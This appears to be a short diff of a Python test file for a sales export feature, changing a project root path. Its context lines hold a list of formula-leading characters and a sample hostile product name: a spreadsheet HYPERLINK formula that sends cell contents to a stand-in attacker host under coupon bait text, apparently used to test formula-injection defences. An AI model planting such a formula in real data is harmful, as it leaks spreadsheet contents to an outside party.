@@ -26,7 +26,7 @@ from tests.support import sales
 from tests.support.forms import csrf_from
 from tests.support.sales import local
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = {
     "product": '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")',
